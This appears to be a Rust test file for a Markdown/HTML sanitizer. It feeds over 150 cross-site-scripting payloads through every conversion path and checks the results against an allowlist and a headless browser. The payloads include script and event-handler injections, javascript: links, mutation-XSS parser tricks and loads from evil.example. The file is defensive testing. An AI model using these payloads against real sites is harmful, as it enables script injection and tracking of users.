//! Hostile input, as Markdown and as HTML: nothing outside the policy comes out, judged by what a
//! parser of HTML sees in the output.

#![allow(clippy::expect_used)]

use std::format;
use std::string::String;
use std::vec::Vec;

use super::policy::{ATTRIBUTES, ELEMENTS};
use super::tree::{Data, Step, Tree};
use super::{HtmlPolicy, HtmlReadOptions, HtmlWriteOptions, SoftBreaks, read, sanitize, write};
use crate::rich::markdown;
use crate::rich::spec_tests::strict;

/// Inputs of our own making; each is read as Markdown and as HTML.
const ATTACKS: &[&str] = &[
    // Scripts as elements.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('//evil.example')</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><script>alert(1)</script></math>",
    "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "</textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><script>alert(1)</script>]]></svg>",
    "<?xml version=1?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<select><script>alert(1)</script></select>",
    "<table><script>alert(1)</script></table>",
    "<frameset><script>alert(1)</script></frameset>",
    "<p><script>alert(1)",
    "<%<script>alert(1)</script>",
    "<\0script>alert(1)</script>",
    "<script\0>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "<scrİpt>alert(1)</scrİpt>",
    "＜script＞alert(1)＜/script＞",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x =onerror=alert(1)>",
    "<img =\"><img src=x onerror=alert(1)>",
    "<a href=x onclick=alert(1)>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<p onfocus=alert(1) tabindex=0 autofocus>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=checkbox onclick=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"animation-name:x\" onanimationstart=alert(1)>x</div>",
    "<ul><li onpointerenter=alert(1)>x</ul>",
    "<code class=\"language-x\" onclick=alert(1)>x</code>",
    "<table onclick=alert(1)><tr onclick=alert(1)><td onclick=alert(1)>x</table>",
    // Targets that run code.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:https://a.example/b)",
    "[x](file:///etc/passwd)",
    "[x](intent://x#Intent;end)",
    "[x](view-source:https://a.example)",
    "[x](about:blank)",
    "[x](ws://a.example)",
    "[x](ftp://a.example)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](#x)",
    "[x](?x)",
    "[x](..)",
    "[x](\u{a0}javascript:alert(1))",
    "[x](\u{2028}javascript:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "<a href=\"javascript&#x3a;alert(1)\">x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<a href=https://a.example target=_blank ping=//evil.example>x</a>",
    "<a href=https://a.example rel=opener>x</a>",
    "<area href=javascript:alert(1)>",
    "<base href=javascript:alert(1)//><a href=x>x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    // Loading.
    "![x](https://evil.example/pixel)",
    "![x](//evil.example/pixel)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:text/html,x)",
    "![x](CID:1\" onerror=alert(1))",
    "![x](<cid:1\" onerror=\"alert(1)>)",
    "![x\" onerror=alert(1) y=\"](cid:1)",
    "![x](cid:1 \"y\\\" onerror=alert(1)\")",
    "![x](cid:1 'y\" onerror=alert(1)')",
    "<img srcset='//evil.example/x 1x'>",
    "<img src=cid:1 srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x><img src=cid:1></picture>",
    "<img src=cid:1 lowsrc=//evil.example>",
    "<video poster=//evil.example/x></video>",
    "<body background=//evil.example/x>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</table>",
    "<p style=\"background:url(//evil.example/x)\">x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(//evil.example/x)}</style><p>x",
    "<svg><style>@import '//evil.example/x.css';</style></svg>",
    "<svg><image href=//evil.example/x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<input type=image src=//evil.example/x>",
    "<img src=https://evil.example/x width=1 height=1>",
    "<link rel=prefetch href=//evil.example>",
    "<object data=//evil.example></object>",
    // Breaking out of attributes and code.
    "[x](https://a.example \"y\\\" onclick=\\\"alert(1)\")",
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "[x](<https://a.example/\"onclick=\"alert(1)>)",
    "[x](https://a.example/\"><script>alert(1)</script>)",
    "<https://a.example/\"onclick=alert(1)//>",
    "<https://a.example/'onclick=alert(1)//>",
    "```\"onclick=\"alert(1)\nx\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "``` x\" y=\"\nx\n```",
    "~~~ </code></pre><script>alert(1)</script>\nx\n~~~",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "[<script>alert(1)</script>](https://a.example)",
    "![<script>alert(1)</script>](cid:1)",
    "[](<script>alert(1)</script>)",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)",
    "&amp;lt;script&amp;gt;",
    "&#60;<b>&#060;</b>&#0060;&#x3c;`<b>`",
    "<code class='language-\" onclick=alert(1)'>x</code>",
    "<pre><code class='language-x\"><script>alert(1)</script>'>x</code></pre>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<td align='left\" onclick=\"alert(1)'>x",
    "<a href=https://a.example title='\"><script>alert(1)</script>'>x</a>",
    "<img src=cid:1 alt='\"><script>alert(1)</script>'>",
    // Parsers that disagree.
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style></math><img src=x onerror=alert(1)>",
    "<svg><foreignObject><p><style></svg><img src=x onerror=alert(1)>",
    "<svg><desc><noscript></desc></svg><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p id=\"</noframes><img src=x onerror=alert(1)>\">",
    "<table><td><svg><desc><td></desc><img src=x onerror=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p><svg><title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<a><table><a href=javascript:alert(1)>x",
    "<b><p><i></b><img src=x onerror=alert(1)></i>",
    "<p id=x name=body><a id=attributes><img name=getElementById>",
    "<form id=x><input name=attributes><input name=innerHTML></form>",
    "<a id=location href=https://a.example>x</a>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div is=x-evil><x-evil></x-evil></div>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<mx-reply><script>alert(1)</script></mx-reply>",
    "<span data-mx-spoiler='\"><script>alert(1)</script>'>x</span>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=javascript:alert(1)></layer>",
    "<image src=x onerror=alert(1)>",
    "<applet code=x></applet>",
    "<o:p onclick=alert(1)>x</o:p>",
];

/// Looks at every element, attribute and target of an output.
fn check(output: &str, policy: &HtmlPolicy, place: &str) {
    let tree = Tree::parse(output);
    let mut step = Some(Step::Enter(tree.root()));
    while let Some(now) = step {
        if let Step::Enter(node) = now
            && let data @ Data::Element { name, attributes } = tree.data(node)
            && &**name != "html"
        {
            assert!(ELEMENTS.contains(&&**name), "element {name} from {place}");
            if &**name == "input" {
                assert_eq!(data.attribute("type"), Some("checkbox"), "{place}");
                assert!(data.attribute("disabled").is_some(), "{place}");
            }
            for attribute in attributes {
                let key = &*attribute.name.local;
                let value = &*attribute.value;
                let listed = ATTRIBUTES
                    .iter()
                    .any(|(element, names)| *element == &**name && names.contains(&key));
                let rel = (&**name, key, value) == ("a", "rel", "noopener");
                assert!(listed || rel, "{name} {key}={value:?} from {place}");
                match key {
                    "href" => assert!(policy.allows_link(value), "href {value:?} from {place}"),
                    "src" => assert!(policy.allows_image(value), "src {value:?} from {place}"),
                    "class" => assert!(
                        value.starts_with("language-"),
                        "class {value:?} from {place}"
                    ),
                    _ => {}
                }
            }
        }
        step = tree.step(now, true, tree.root());
    }
}

/// The outputs of every way from an input to HTML.
fn outputs(input: &str, policy: &HtmlPolicy) -> Vec<(&'static str, String)> {
    let options = HtmlWriteOptions::default().policy(policy);
    let breaks = options
        .clone()
        .soft_breaks(SoftBreaks::Break)
        .annotate_links(true);
    let passed_twice = options.clone().second_pass(true);
    let from_markdown = markdown::read(input).value;
    let from_html = read(input, &HtmlReadOptions::default().keep_hidden(true)).value;
    let between = markdown::write(&from_html).value;
    let literal = markdown::escape_literal(input);
    Vec::from([
        ("Markdown", write(&from_markdown, &options).value),
        ("Markdown, annotated", write(&from_markdown, &breaks).value),
        ("HTML", write(&from_html, &options).value),
        ("HTML, passed twice", write(&from_html, &passed_twice).value),
        (
            "HTML by way of Markdown",
            write(&markdown::read(&between).value, &options).value,
        ),
        (
            "literal",
            write(&markdown::read(&literal).value, &options).value,
        ),
    ])
}

#[test]
fn nothing_outside_the_policy_comes_out() {
    assert!(ATTACKS.len() >= 150, "{}", ATTACKS.len());
    let relaxed = HtmlPolicy::messenger()
        .with_remote_images(true)
        .with_relative(true)
        .with_link_scheme("javascript");
    for policy in [HtmlPolicy::messenger(), relaxed] {
        for attack in ATTACKS {
            let twice = format!("{attack}\n\n{attack} <b>{attack}</b>\n- {attack}");
            for input in [*attack, &twice] {
                for (way, output) in outputs(input, &policy) {
                    let place = format!("{input:?} as {way}: {output:?}");
                    check(&output, &policy, &place);
                    // What we write, ammonia finds nothing to remove from.
                    let cleaned = sanitize(&output, &policy);
                    assert_eq!(strict(&cleaned), strict(&output), "{place}");
                }
                let cleaned = sanitize(input, &policy);
                check(
                    &cleaned,
                    &policy,
                    &format!("{input:?} cleaned: {cleaned:?}"),
                );
            }
        }
    }
}

#[test]
fn written_markdown_never_holds_html() {
    for attack in ATTACKS {
        for document in [
            markdown::read(attack).value,
            read(attack, &HtmlReadOptions::default()).value,
        ] {
            let written = markdown::write(&document).value;
            assert_eq!(markdown::escape_html(&written), written, "{attack:?}");
        }
    }
}

#[test]
fn a_hostile_resolver_is_checked_too() {
    let policy = HtmlPolicy::messenger();
    let document = markdown::read("![x](cid:1)").value;
    for answer in [
        "javascript:alert(1)",
        "x\" onerror=\"alert(1)",
        "data:text/html,<script>",
        "file:///x",
        "",
    ] {
        let resolve = |_: &str| Some(String::from(answer));
        let options = HtmlWriteOptions::default().images(&resolve);
        check(&write(&document, &options).value, &policy, answer);
    }
}

/// Every output is put into a page with `innerHTML`, under a policy that forbids everything and a
/// listener that notes what was attempted. Images by `cid` are all that may be asked for.
#[test]
#[ignore = "starts a browser (chromium), as the continuous integration does"]
fn a_browser_runs_and_loads_nothing() {
    let policy = HtmlPolicy::messenger();
    let mut fragments: Vec<String> = Vec::new();
    for attack in ATTACKS {
        fragments.extend(outputs(attack, &policy).into_iter().map(|(_, html)| html));
        fragments.push(sanitize(attack, &policy));
    }
    // A control: this one must be noticed, or the test tests nothing.
    let report = browse(&fragments);
    assert_eq!(report, format!("{} inserted, noticed: ", fragments.len()));
    fragments.push(String::from("<img src=x onerror=alert(1)>"));
    assert!(browse(&fragments).contains("img-src"));
}

/// What the browser noticed.
fn browse(fragments: &[String]) -> String {
    let mut script = String::from("const fragments = [");
    for fragment in fragments {
        script.push('"');
        for unit in fragment.encode_utf16() {
            script.push_str(&format!("\\u{unit:04x}"));
        }
        script.push_str("\",\n");
    }
    script.push_str(
        "];
        const noticed = new Set();
        window.alert = () => noticed.add('alert');
        document.addEventListener('securitypolicyviolation', event => {
            if (!event.blockedURI.startsWith('cid'))
                noticed.add(event.effectiveDirective + ' ' + event.blockedURI);
        });
        let inserted = 0;
        for (const fragment of fragments) {
            const place = document.createElement('div');
            document.body.appendChild(place);
            place.innerHTML = fragment;
            for (const details of place.querySelectorAll('details')) details.open = true;
            inserted++;
        }
        setTimeout(() => {
            for (const entry of performance.getEntriesByType('resource'))
                if (!entry.name.startsWith('cid:')) noticed.add(entry.name);
            document.title = inserted + ' inserted, noticed: ' + [...noticed].join(', ');
        }, 500);",
    );
    let page = format!(
        "<!DOCTYPE html><meta charset=utf-8><title></title>\
         <meta http-equiv=Content-Security-Policy content=\"default-src 'none'; script-src 'nonce-n'\">\
         <body><script nonce=n>{script}</script>"
    );
    let folder = tempfile::tempdir().expect("a folder");
    let file = folder.path().join("page.html");
    std::fs::write(&file, page).expect("a file");
    let output = std::process::Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--virtual-time-budget=5000",
        ])
        .arg(format!("--user-data-dir={}", folder.path().display()))
        .arg("--dump-dom")
        .arg(format!("file://{}", file.display()))
        .output()
        .expect("chromium");
    let dom = String::from_utf8_lossy(&output.stdout);
    let title = dom
        .split("<title>")
        .nth(1)
        .and_then(|rest| rest.split("</title>").next());
    String::from(title.unwrap_or_default())
}
